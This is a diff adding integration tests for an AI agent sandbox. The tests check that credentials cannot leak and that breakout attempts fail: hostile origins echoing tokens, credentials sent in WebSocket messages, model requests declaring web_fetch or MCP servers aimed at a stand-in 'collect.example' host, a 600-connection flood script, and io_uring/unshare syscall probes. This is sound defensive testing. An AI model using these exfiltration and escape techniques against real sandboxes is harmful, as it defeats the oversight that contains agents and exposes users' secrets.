@@ -1,0 +1,434 @@
+"""No path around the bundle's checks, tried from the agent's seat (issue: a hostile repository or agent gets nothing).
+
+Each attack comes from inside the agent (uid 1000) against hostile servers on
+the stand-in internet: an origin that echoes the request into malformed
+responses and WebSocket frames, a forge whose errors quote the credential it
+was sent, the model host's server tools, a flood of idle connections, and
+io_uring. Each test shows the attack refused, scrubbed or capped, and its
+benign counterpart still working.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import shlex
+
+import pytest
+
+from .bottles import bottle_of, write_manifest
+from .test_git_gate import gate_clone, git_records, in_clone, seed_bare
+
+pytestmark = pytest.mark.integration
+
+REAL = "Vw3kQ8zR1tY6uI9oP2aS5dF7gH4jK0lX-real"
+MODEL_KEY = "sk-ant-api03-" + "Zx8cV6bN4mQ2wE0rT8yU6iO4pA2sD0fG8hJ6kL4zX2cV0bN8mQ6wE4rT2yU0iO8pA6sD4fG2hJ0kL8z" + "AA"
+GITHUB_TOKEN = "ghp_" + "k3J9xQ2mV7bN4cZ8wL1pR6tY0uH5sD3fG9aE"
+ALLOW = ["allowed.test:443", "denied.test:443"]
+#: The one text every error page of the proxy shows for a server's answer it could not relay.
+RELAY_ERROR = ("bottle: the server's answer could not be relayed (HTTP 502); the reason is in the bottle's egress log "
+               "(bottle logs --egress).\n")
+
+
+def bundle_records(bottle) -> list[dict]:
+    logs = bottle.client.api.logs(bottle.bundle_id).decode()
+    return [json.loads(line) for line in logs.splitlines() if line.startswith("{")]
+
+
+@pytest.fixture(scope="module")
+def web(tmp_path_factory, outbound_env, internet_egress):
+    """One bottle for the module's proxy tests: a secret bound to allowed.test, WebSockets to denied.test only."""
+    folder = tmp_path_factory.mktemp("seal")
+    with pytest.MonkeyPatch.context() as patch:
+        for key, value in {**outbound_env, "HOST_TOKEN": REAL, "ANTHROPIC_API_KEY": MODEL_KEY}.items():
+            patch.setenv(key, value)
+        manifest = write_manifest(folder, {
+            "bottles": {"web": {"egress": {**internet_egress, "allow": ALLOW, "websockets": ["denied.test"]},
+                                "secrets": {"TOKEN": {"from_env": "HOST_TOKEN", "hosts": ["allowed.test"]}}}},
+            "agents": {"sealed": {"bottle": "web"}}})
+        with bottle_of(manifest, "sealed") as bottle:
+            yield bottle
+
+
+@pytest.fixture(scope="module")
+def fetcher(tmp_path_factory, outbound_env, internet_egress):
+    """A bottle like ``web`` that allows WebSockets to allowed.test (the secret's host) and web_fetch."""
+    folder = tmp_path_factory.mktemp("seal-fetcher")
+    with pytest.MonkeyPatch.context() as patch:
+        for key, value in {**outbound_env, "HOST_TOKEN": REAL, "ANTHROPIC_API_KEY": MODEL_KEY}.items():
+            patch.setenv(key, value)
+        manifest = write_manifest(folder, {
+            "bottles": {"fetcher": {"egress": {**internet_egress, "allow": ALLOW, "websockets": ["allowed.test"],
+                                               "model_server_tools": ["web_fetch"]},
+                                    "secrets": {"TOKEN": {"from_env": "HOST_TOKEN", "hosts": ["allowed.test"]}}}},
+            "agents": {"fetcher": {"bottle": "fetcher"}}})
+        with bottle_of(manifest, "fetcher") as bottle:
+            yield bottle
+
+
+# -- mitmproxy's own error pages -------------------------------------------------------------------
+
+
+def test_a_malformed_answer_echoing_the_secret_gets_bottles_own_words(web, origin):
+    kinds = ["status", "header", "chunk", "length"]
+    # Each kind over HTTP/2 (curl's choice) and HTTP/1.1 to the proxy: mitmproxy builds each one's pages apart.
+    cases = [(kind, version) for kind in kinds for version in ("--http2", "--http1.1")]
+    script = "; ".join(
+        f"echo '=== {kind} {version}'; curl -s -i {version} --max-time 10 -H \"Authorization: Bearer $TOKEN\" "
+        f"'https://allowed.test/malformed?kind={kind}'; echo" for kind, version in cases)
+    out = web.exec(["sh", "-c", script]).stdout.decode()
+    answers = dict(part.split("\n", 1) for part in out.split("=== ")[1:])
+    for kind, version in cases:
+        answer = answers[f"{kind} {version}"].removeprefix("HTTP/1.1 200 Connection established\r\n\r\n")
+        head, _, page = answer.partition("\r\n\r\n")
+        assert head.split(" ")[1] == "502", (kind, version, answer)
+        assert page.strip() == RELAY_ERROR.strip(), (kind, version, answer)
+    # The origin did receive the real value (the request was allowed) and put it in its answers ...
+    assert len([r for r in origin.requests() if r["path"].startswith("/malformed")]) == len(cases)
+    # ... but neither the value, the placeholder, nor anything the origin wrote reached the agent.
+    assert REAL not in out and "you sent" not in out and "Bearer" not in out
+    # The user finds the reason in the egress log, with no real value in it.
+    records = [r for r in bundle_records(web) if r.get("path") == "/malformed"]
+    assert len(records) == len(cases) and all(r.get("error") for r in records)
+    assert REAL not in json.dumps(records)
+
+
+def test_a_well_formed_echo_from_the_bound_host_still_answers_with_the_placeholder(web, origin):
+    placeholder = web.exec(["printenv", "TOKEN"]).stdout.decode().strip()
+    out = web.exec(["sh", "-c", "curl -s --max-time 10 -H \"Authorization: Bearer $TOKEN\" https://allowed.test/echo"])
+    headers = {key.lower(): value for key, value in json.loads(out.stdout)["headers"].items()}
+    assert headers["authorization"] == f"Bearer {placeholder}"
+    assert REAL not in out.stdout.decode()
+
+
+# -- WebSockets --------------------------------------------------------------------------------------
+
+#: A WebSocket client (RFC 6455, standard library) run in the agent: through the proxy, over TLS, to HOST/ws.
+#: argv: host, then messages to send ("ping:TEXT" sends a ping); prints JSON {status, frames: [[opcode, text]...], closed}. With WS_AUTH set,
+#: the upgrade request carries ``Authorization: Bearer $TOKEN`` (the placeholder, swapped for the real value).
+WS_CLIENT = r'''
+import base64, json, os, socket, ssl, struct, sys
+from urllib.parse import urlsplit
+host, messages = sys.argv[1], sys.argv[2:]
+proxy = urlsplit(os.environ["HTTPS_PROXY"])
+raw = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
+raw.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
+def head(sock):
+    data = b""
+    while b"\r\n\r\n" not in data:
+        chunk = sock.recv(1)
+        if not chunk:
+            break
+        data += chunk
+    return data.decode("latin-1")
+assert " 200 " in head(raw).split("\r\n")[0]
+context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+context.set_alpn_protocols(["http/1.1"])
+sock = context.wrap_socket(raw, server_hostname=host)
+key = base64.b64encode(os.urandom(16)).decode()
+sock.sendall((f"GET /ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+              f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
+              + (f"Authorization: Bearer {os.environ['TOKEN']}\r\n" if os.environ.get("WS_AUTH") else "")
+              + "\r\n").encode())
+answer = head(sock)
+result = {"status": int(answer.split(" ")[1]) if answer else 0, "frames": [], "closed": False}
+def exact(n):
+    data = b""
+    while len(data) < n:
+        chunk = sock.recv(n - len(data))
+        if not chunk:
+            raise EOFError
+        data += chunk
+    return data
+def frame():
+    first = exact(2)
+    size = first[1] & 0x7F
+    size = struct.unpack("!H", exact(2))[0] if size == 126 else struct.unpack("!Q", exact(8))[0] if size == 127 else size
+    return first[0] & 0x0F, exact(size)
+def send(opcode, payload):
+    mask = os.urandom(4)
+    size = len(payload)
+    length = bytes([0x80 | size]) if size < 126 else bytes([0x80 | 126]) + struct.pack("!H", size)
+    sock.sendall(bytes([0x80 | opcode]) + length + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
+def read_until_data():
+    while True:
+        opcode, payload = frame()
+        result["frames"].append([opcode, payload.decode("utf-8", "replace")])
+        if opcode in (1, 2, 8):
+            return opcode
+try:
+    if result["status"] == 101:
+        read_until_data()          # the server's greeting
+        for message in messages:
+            if message.startswith("ping:"):
+                send(9, message[5:].encode())  # a control frame: nothing comes back to wait for
+                continue
+            send(1, message.encode())
+            if read_until_data() == 8:
+                break
+        send(8, struct.pack("!H", 1000))
+        read_until_data()          # the close answer, with its reason
+except (EOFError, OSError):
+    result["closed"] = True
+print(json.dumps(result))
+'''
+
+
+def websocket(bottle, host: str, *messages: str, auth: bool = False) -> dict:
+    out = bottle.exec(["env", f"WS_AUTH={'1' if auth else ''}", "python3", "-c", WS_CLIENT, host, *messages])
+    assert out.returncode == 0, out.stderr.decode()
+    return json.loads(out.stdout)
+
+
+def test_websockets_go_only_to_listed_hosts(web, origin):
+    refused = websocket(web, "allowed.test", auth=True)
+    assert refused["status"] == 403
+    assert not [r for r in origin.requests() if r["path"] == "/ws"]
+    records = [r for r in bundle_records(web) if r.get("path") == "/ws" and r.get("host") == "allowed.test"]
+    assert records and records[-1]["rule"] == "websocket"
+    # Listed: the connection opens and messages go both ways.
+    listed = websocket(web, "denied.test", "hello there")
+    assert listed["status"] == 101 and [1, "echo: hello there"] in listed["frames"], listed
+
+
+def test_websocket_messages_carrying_a_credential_or_placeholder_never_leave(web, origin):
+    placeholder = web.exec(["printenv", "TOKEN"]).stdout.decode().strip()
+    for payload in (f"note {GITHUB_TOKEN} end", f"token={placeholder}"):
+        sent = websocket(web, "denied.test", "first, harmless", payload, "after")
+        assert sent["status"] == 101
+        assert [1, "echo: first, harmless"] in sent["frames"]
+        # The refused message is never echoed, nor anything after it: the connection is closed.
+        assert sent["closed"] and not any("echo: " + payload == text or text == "echo: after"
+                                          for _, text in sent["frames"]), sent
+    arrived = json.dumps([r for r in origin.requests() if r.get("scheme") == "websocket"])
+    assert "first, harmless" in arrived
+    assert GITHUB_TOKEN not in arrived and placeholder not in arrived
+    # A ping is a control frame, outside the message hook: one carrying a credential arrives emptied.
+    pinged = websocket(web, "denied.test", f"ping:note {GITHUB_TOKEN}", "ping:just a ping", "after the pings")
+    assert [1, "echo: after the pings"] in pinged["frames"], pinged
+    pings = [r["data"] for r in origin.requests() if r.get("ping")]
+    assert pings == ["", "just a ping"], pings
+    refusals = [r for r in bundle_records(web) if r.get("method") == "WEBSOCKET"]
+    assert {r["rule"] for r in refusals} >= {"credential", "secret-value"}
+    assert GITHUB_TOKEN not in json.dumps(refusals)
+
+
+def test_websocket_frames_from_the_secrets_host_come_back_scrubbed(fetcher, origin):
+    placeholder = fetcher.exec(["printenv", "TOKEN"]).stdout.decode().strip()
+    got = websocket(fetcher, "allowed.test", "hello", auth=True)
+    assert got["status"] == 101, got
+    texts = [text for _, text in got["frames"]]
+    # The server quoted the real value (it received it) in a message, a ping and a close reason: each arrives
+    # with the placeholder in its place.
+    assert f"you sent Bearer {placeholder}" in texts  # the message
+    assert [9, f"you sent Bearer {placeholder}"] in got["frames"]  # the ping
+    assert "echo: hello" in texts
+    assert REAL not in json.dumps(got)
+
+
+# -- the model host's server tools ------------------------------------------------------------------
+
+
+def messages_request(bottle, body: dict) -> tuple[int, dict | str]:
+    out = bottle.exec(["sh", "-c", "curl -s --max-time 20 -w '\\n%{http_code}' https://api.anthropic.com/v1/messages "
+                                   "-H 'content-type: application/json' -H \"x-api-key: $ANTHROPIC_API_KEY\" "
+                                   f"--data-binary {shlex.quote(json.dumps(body))}"])
+    text, _, status = out.stdout.decode().rpartition("\n")
+    try:
+        return int(status), json.loads(text)
+    except ValueError:
+        return int(status or 0), text
+
+
+def body_with(**extra) -> dict:
+    return {"model": "claude-sonnet-4-5", "max_tokens": 64, "messages": [{"role": "user", "content": "hi"}], **extra}
+
+
+FETCHING = {
+    "web_fetch": body_with(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
+    "mcp": body_with(mcp_servers=[{"type": "url", "url": "https://collect.example/mcp", "name": "x"}]),
+    "mcp_toolset": body_with(tools=[{"type": "mcp_toolset", "mcp_server_name": "x"}]),
+    "url_sources": body_with(messages=[{"role": "user", "content": [
+        {"type": "image", "source": {"type": "url", "url": "https://collect.example/?d=secret"}}]}]),
+    "code_execution": body_with(tools=[{"type": "code_execution_20250825", "name": "code_execution"}]),
+    "batch": {"requests": [{"custom_id": "a", "params": body_with(tools=[{"type": "web_fetch_20250910",
+                                                                          "name": "web_fetch"}])}]},
+}
+
+
+def test_model_requests_declaring_fetching_server_tools_are_refused(web, model_server):
+    for name, body in FETCHING.items():
+        status, answer = messages_request(web, body)
+        assert status == 400, (name, answer)
+        # The API's own error shape, so Claude Code shows the reason as the API's answer.
+        assert answer["type"] == "error" and "rule model-server-tool" in answer["error"]["message"], (name, answer)
+    assert model_server.messages() == []
+    refusals = [r for r in bundle_records(web) if r.get("rule") == "model-server-tool"]
+    assert len(refusals) >= len(FETCHING) and {r["status"] for r in refusals} == {400}
+
+
+def test_what_claude_code_sends_by_default_still_reaches_the_model(web, model_server):
+    ordinary = body_with(tools=[{"name": "Bash", "description": "run", "input_schema": {"type": "object"}},
+                                {"type": "web_search_20250305", "name": "web_search", "max_uses": 8}])
+    status, answer = messages_request(web, ordinary)
+    assert status == 200, answer
+    assert [m["tools"][1]["type"] for m in model_server.messages()] == ["web_search_20250305"]
+
+
+def test_a_bottle_that_allows_web_fetch_may_declare_it(fetcher, model_server):
+    status, answer = messages_request(fetcher, FETCHING["web_fetch"])
+    assert status == 200, answer
+    assert len(model_server.messages()) == 1
+    status, answer = messages_request(fetcher, FETCHING["mcp"])  # what it did not allow stays refused
+    assert status == 400 and "rule model-server-tool" in answer["error"]["message"], answer
+
+
+@pytest.fixture
+def claude_bottle(tmp_path, outbound_env, internet_egress, monkeypatch):
+    for key, value in {**outbound_env, "ANTHROPIC_API_KEY": MODEL_KEY}.items():
+        monkeypatch.setenv(key, value)
+    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(tmp_path / "host-claude"))
+    manifest = write_manifest(tmp_path, {"bottles": {"dev": {"egress": internet_egress}},
+                                         "agents": {"demo": {"skills": [], "bottle": "dev"}}})
+    with bottle_of(manifest, "demo") as bottle:
+        yield bottle
+
+
+def declared_tool_types(model_server) -> set[str]:
+    return {tool.get("type", "custom") for body in model_server.messages() for tool in body.get("tools") or []}
+
+
+def test_the_real_claude_searches_the_web_through_the_model_host(claude_bottle, model_server):
+    model_server.set_script([{"tool_use": {"name": "WebSearch", "input": {"query": "sealed sandboxes"}}},
+                             "searched", "done"])
+    result = claude_bottle.exec(claude_bottle.claude_argv(["search the web", "--output-format", "json"],
+                                                          interactive=False))
+    assert result.returncode == 0, result.stderr.decode() + result.stdout.decode()
+    types = declared_tool_types(model_server)
+    assert any(kind.startswith("web_search_") for kind in types), types
+    assert not [r for r in bundle_records(claude_bottle) if r.get("rule") == "model-server-tool"]
+
+
+def test_the_real_claude_told_to_declare_a_remote_mcp_server_gets_a_clear_refusal(claude_bottle, model_server):
+    extra = json.dumps({"mcp_servers": [{"type": "url", "url": "https://collect.example/mcp", "name": "x"}]})
+    result = claude_bottle.exec(["env", f"CLAUDE_CODE_EXTRA_BODY={extra}",
+                                 *claude_bottle.claude_argv(["hi"], interactive=False)])
+    said = (result.stdout + result.stderr).decode()
+    assert result.returncode != 0 and "rule model-server-tool" in said and "mcp" in said, said
+    assert "authenticate" not in said  # not mistaken for a failed login
+    assert model_server.messages() == []
+
+
+# -- the git gate's words ----------------------------------------------------------------------------
+
+
+def test_a_forge_echoing_credentials_hands_the_agent_nothing_of_the_gates_token(tmp_path, git_forge, outbound_env,
+                                                                                internet_egress, monkeypatch):
+    for key, value in outbound_env.items():
+        monkeypatch.setenv(key, value)
+    monkeypatch.setenv("FORGE_TOKEN", git_forge.token)
+    for name in ("sealed-project", "echo-push"):
+        seed_bare(git_forge.repos / f"{name}.git", tmp_path, {"main": 1})
+    remote = {"token_env": "FORGE_TOKEN", "push": {"allow": ["refs/heads/*"]}}
+    manifest = write_manifest(tmp_path, {
+        "bottles": {"dev": {"egress": internet_egress, "git": {
+            "honest": {"url": git_forge.url("sealed-project"), **remote},
+            "hostile": {"url": git_forge.url("echo-push"), **remote},
+            "deaf": {"url": git_forge.url("echo-all-deaf"), **remote}}}},
+        "agents": {"echoed": {"bottle": "dev"}}})
+    token = git_forge.token
+    basic = base64.b64encode(f"x-access-token:{token}".encode()).decode()
+    with bottle_of(manifest, "echoed") as bottle:
+        gate = f"http://{bottle.plan.network.bundle_ip}:{bottle.plan.git_gate.port}"
+        # The honest forge: clone and push work as ever.
+        gate_clone(bottle, "honest")
+        pushed = in_clone(bottle, "git commit -q --allow-empty -m ok && git push -q origin HEAD:refs/heads/bottle/ok")
+        assert pushed.ok, pushed.text()
+        # The hostile forge answers every push with an error quoting the gate's Authorization header.
+        hostile = bottle.exec(["sh", "-c", f"git clone -q {gate}/hostile.git h && cd h && git -c user.name=a "
+                                           "-c user.email=a@b.test commit -q --allow-empty -m x && "
+                                           "git push origin HEAD:refs/heads/bottle/x 2>&1"])
+        # A forge that quotes it for every request cannot even be read.
+        deaf = bottle.exec(["sh", "-c", f"git ls-remote {gate}/deaf.git 2>&1; "
+                                        f"curl -s '{gate}/deaf.git/info/refs?service=git-upload-pack'"])
+    said = hostile.text() + deaf.text()
+    assert not hostile.ok and "the upstream of hostile refused the push" in hostile.text(), hostile.text()
+    assert "the upstream of deaf could not be read" in deaf.text(), deaf.text()
+    assert token not in said and basic not in said and "access denied" not in said, said
+    # The forge's own words are in the bottle's git log for the user, without the credential.
+    failures = [r for r in git_records("echoed") if r.get("rule") == "upstream"]
+    logged = json.dumps(failures)
+    assert {r["remote"] for r in failures} == {"hostile", "deaf"}, failures
+    assert "access denied" in logged and token not in logged and basic not in logged
+
+
+# -- the gate and the supervisor under a flood --------------------------------------------------------
+
+#: From the agent: hold COUNT idle connections to each of the gate and the supervisor, then use both.
+FLOOD = r'''
+import json, select, socket, subprocess, sys, time, urllib.request
+host, gate_port, hook_port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
+held = []
+for port in (gate_port, hook_port):
+    for _ in range(count):
+        held.append(socket.create_connection((host, port), timeout=10))
+ls = subprocess.run(["git", "ls-remote", f"http://{host}:{gate_port}/home.git"], capture_output=True, timeout=60)
+hook = urllib.request.urlopen(urllib.request.Request(
+    f"http://{host}:{hook_port}/hook?event=Notification", data=b'{"message": "still here"}',
+    headers={"content-type": "application/json"}), timeout=30).read().decode()
+# Every idle connection is closed by the bundle in time; none is answered.
+still_open, deadline = set(held), time.monotonic() + 120
+while still_open and time.monotonic() < deadline:
+    readable, _, _ = select.select(list(still_open), [], [], 1.0)
+    for sock in readable:
+        if sock.recv(1) == b"":
+            still_open.discard(sock)
+print(json.dumps({"held": len(held), "ls_remote": ls.returncode, "refs": ls.stdout.decode(), "hook": hook,
+                  "still_open": len(still_open)}))
+'''
+
+
+def test_idle_connections_cannot_starve_the_gate_or_the_supervisor(tmp_path):
+    home = seed_bare(tmp_path / "home.git", tmp_path, {"main": 1})
+    manifest = write_manifest(tmp_path, {"bottles": {"dev": {"git": {"home": {"url": str(home)}}}},
+                                         "agents": {"flooder": {"bottle": "dev", "supervise": {"mode": "audit"}}}})
+    with bottle_of(manifest, "flooder") as bottle:
+        plan = bottle.plan
+        out = bottle.exec(["python3", "-c", FLOOD, plan.network.bundle_ip, str(plan.git_gate.port),
+                           str(plan.supervise.port), "300"])
+        assert out.returncode == 0, out.stderr.decode()
+        result = json.loads(out.stdout)
+        # Afterwards the bundle still serves a well-behaved client at once.
+        again = bottle.exec(["git", "ls-remote", f"http://{plan.network.bundle_ip}:{plan.git_gate.port}/home.git"])
+    assert result["held"] == 600
+    assert result["ls_remote"] == 0 and "refs/heads/main" in result["refs"], result
+    assert result["hook"].startswith("ok"), result
+    assert result["still_open"] == 0, result
+    assert again.returncode == 0 and b"refs/heads/main" in again.stdout
+
+
+# -- io_uring --------------------------------------------------------------------------------------
+
+IO_URING = r'''
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+params = ctypes.create_string_buffer(120)
+ring = libc.syscall(425, 8, params)                 # io_uring_setup
+print("io_uring_setup", ring, ctypes.get_errno())
+print("unshare", libc.syscall(272, 0x10000000), ctypes.get_errno())   # the engine's default still refuses it
+with open("/workspace/ordinary.txt", "w") as handle:
+    handle.write("ordinary work")
+print("file", open("/workspace/ordinary.txt").read())
+'''
+
+
+def test_io_uring_is_refused_in_the_agent_and_ordinary_work_runs(web):
+    out = web.exec(["python3", "-c", IO_URING])
+    assert out.returncode == 0, out.stderr.decode()
+    lines = dict(line.split(" ", 1) for line in out.stdout.decode().splitlines())
+    assert lines["io_uring_setup"] == "-1 38"  # ENOSYS: as if the kernel had no io_uring
+    assert lines["unshare"] == "-1 1"  # EPERM: the rest of the engine's default profile is in force
+    assert lines["file"] == "ordinary work"
+    committed = web.exec(["sh", "-c", "git init -q /tmp/x && git -C /tmp/x -c user.name=a -c user.email=a@b.test "
+                                      "commit -q --allow-empty -m ok && git -C /tmp/x log --format=%s"])
+    assert committed.stdout.decode().strip() == "ok", committed.stderr.decode()
